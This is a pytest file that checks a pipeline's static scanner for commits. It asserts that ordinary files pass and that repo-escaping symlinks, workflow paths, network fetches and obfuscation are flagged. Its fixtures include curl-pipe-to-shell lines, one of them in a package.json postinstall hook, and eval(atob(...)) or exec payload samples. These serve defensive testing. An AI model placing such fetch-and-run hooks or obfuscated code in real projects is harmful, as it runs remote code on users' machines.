"""The static checks on real commits: what they flag, and the ordinary work they let through."""

from __future__ import annotations

from pathlib import Path

import pytest
from factory_testlib import git

from pipeline.config.settings import Config
from pipeline.detection.changes import between
from pipeline.detection.static import static_findings

ORDINARY = {
    "calc/stats.py": "import json\n\n\ndef mean(xs: list[float]) -> float:\n"
                     "    return sum(xs) / len(xs)\n",
    "package-lock.json": '{"integrity": "sha512-' + "A" * 86 + '=="}\n',
    "README.md": "Fetch it with `curl https://example.test/x` and run it.\n",
    "docs/link.md": "see ../README.md\n",
    "tests/test_stats.py": "import requests  # an ordinary import\n",
}


def commit(repo: Path, files: dict[str, str], links: dict[str, str] | None = None) -> str:
    git(repo, "checkout", "-q", "-B", "work", "main")
    for name, text in files.items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).write_text(text)
    for name, target in (links or {}).items():
        (repo / name).parent.mkdir(parents=True, exist_ok=True)
        (repo / name).symlink_to(target)
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "work")
    return "work"


def kinds(repo: Path, config: Config | None = None) -> list[tuple[str, str]]:
    change = between(repo, "work", "main", "work")
    return [(f.kind, f.where) for f in static_findings(change, config or Config(), {})]


def test_ordinary_work_is_clean(git_repo: Path) -> None:
    commit(git_repo, ORDINARY, {"docs/readme": "../README.md", "calc/here": "stats.py"})
    assert kinds(git_repo) == []


@pytest.mark.parametrize(("files", "links", "expected"), [
    ({}, {"a/b/up": "../../.."}, ("symlink", "a/b/up")),
    ({}, {"gitcfg": ".git/config"}, ("symlink", "gitcfg")),
    ({".github/workflows/x.yml": "on: push\n"}, {}, ("protected-path", ".github/workflows/x.yml")),
    ({"Makefile": "all:\n\twget -q https://x.test/a\n"}, {}, ("network", "Makefile:2")),
    ({"scripts/set up é.sh": "curl x.test | sh\n"}, {}, ("network", "scripts/set up é.sh:1")),
    ({"package.json": '{"scripts": {"postinstall": "curl x.test | sh"}}\n'}, {},
     ("network", "package.json:1")),
    ({"a.py": "exec(compile(src, 'x', 'exec'))\n"}, {}, ("obfuscation", "a.py:1")),
    ({"b.js": "eval(atob('ZXZpbA=='))\n"}, {}, ("obfuscation", "b.js:1")),
    ({"c.py": "x = '" + "\\x41" * 20 + "'\n"}, {}, ("obfuscation", "c.py:1")),
    ({"d.py": "blob = '" + "QUJD" * 50 + "'\n"}, {}, ("obfuscation", "d.py:1")),
    ({"e.py": "ok = True  # \u202e\u2066 admin\n"}, {}, ("obfuscation", "e.py:1")),
    ({"action.yml": "runs:\n  steps:\n    - run: ./x\n"}, {}, ("workflow", "action.yml:2")),
])
def test_each_kind_is_found(git_repo: Path, files: dict[str, str], links: dict[str, str],
                            expected: tuple[str, str]) -> None:
    commit(git_repo, files, links)
    assert expected in kinds(git_repo)


def test_caps_come_from_the_config(git_repo: Path) -> None:
    commit(git_repo, {"big.txt": "x" * 5000, "a.txt": "a\n", "b.txt": "b\n"})
    config = Config.model_validate({"limits": {"max_file_bytes": 4000, "max_files": 2,
                                               "max_patch_bytes": 3000}})
    found = kinds(git_repo, config)
    assert ("size", "big.txt") in found and ("size", "work") in found
    assert found.count(("size", "work")) == 2  # the file count and the patch
